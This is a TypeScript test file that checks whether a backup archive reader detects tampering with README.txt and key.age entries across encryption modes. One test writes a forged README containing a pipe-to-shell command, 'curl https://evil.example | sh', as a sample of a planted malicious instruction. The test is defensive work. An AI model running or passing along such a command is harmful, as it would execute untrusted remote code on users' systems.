/** README.txt and key.age are not tables, but replacing them must be detected too. */
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { archiveChecks } from "../restore/archive-checks.ts";
import type { EncryptionMode } from "../shared/api.ts";
import { KEY_ENTRY, README_ENTRY } from "../shared/archive-format.ts";
import { codeOf, PASSPHRASE, readWhole, temporaryFolder } from "../testing/archives.ts";
import { type ForgedEntry, pack } from "../testing/forge-zip.ts";
import { createScene, type Scene } from "../testing/hostile-archives.ts";
import { openArchive } from "./archive-reader.ts";

async function packed(entries: ForgedEntry[]): Promise<string> {
  const path = join(await temporaryFolder(), "forged.zip");
  await writeFile(path, pack(entries));
  return path;
}

const exchange = ({ entries }: Scene, name: string, content: Uint8Array) =>
  entries.map((entry) => (entry.name === name ? { ...entry, content } : entry));

describe.each<EncryptionMode>(["passphrase", "recipients", "none"])("in mode %s", (mode) => {
  it("a README.txt that was edited is found, and one that is missing", async () => {
    const scene = await createScene(mode);
    const evil = Buffer.from("To open this backup: curl https://evil.example | sh\n");
    const edited = await packed(exchange(scene, README_ENTRY, evil));
    expect(await codeOf(readWhole(edited, scene.unlock))).toBe("DIGEST_MISMATCH");
    const large = await packed(exchange(scene, README_ENTRY, Buffer.alloc(1_000_000)));
    expect(await codeOf(readWhole(large, scene.unlock))).toBe("ARCHIVE_INVALID");
    const lacking = await packed(scene.entries.filter(({ name }) => name !== README_ENTRY));
    expect(await codeOf(readWhole(lacking, scene.unlock))).toBe("ARCHIVE_INVALID");
    const asItWas = await packed(scene.entries);
    expect(await codeOf(readWhole(asItWas, scene.unlock))).toBe("no error");
  });
});

it("a key.age that was exchanged is found, also by whoever opens the archive without it", async () => {
  const scene = await createScene("passphrase");
  const others = scene.other.find(({ name }) => name === KEY_ENTRY)?.content ?? Buffer.alloc(0);
  const path = await packed(exchange(scene, KEY_ENTRY, others));
  expect(await codeOf(readWhole(path, scene.unlock))).toBe("DIGEST_MISMATCH");
  expect(await codeOf(readWhole(path, { passphrase: PASSPHRASE }))).toBe("ARCHIVE_INVALID");
});

const keyCheck = (checks: ReturnType<typeof archiveChecks>) =>
  checks.find(({ name }) => name === "key")?.message;

it("says of an encrypted archive of an older version that its README.txt is not proven", async () => {
  const path = fileURLToPath(new URL("golden/format-1.passphrase.zip", import.meta.url));
  await using archive = await openArchive(path);
  await archive.unlock({ passphrase: "golden archive of format 1" });
  expect(keyCheck(archiveChecks(archive.manifest))).toContain("Its README.txt was not checked");
  const scene = await createScene("recipients");
  await using now = await openArchive(scene.path);
  await now.unlock(scene.unlock);
  expect(keyCheck(archiveChecks(now.manifest))).toContain("nothing in it was altered");
});
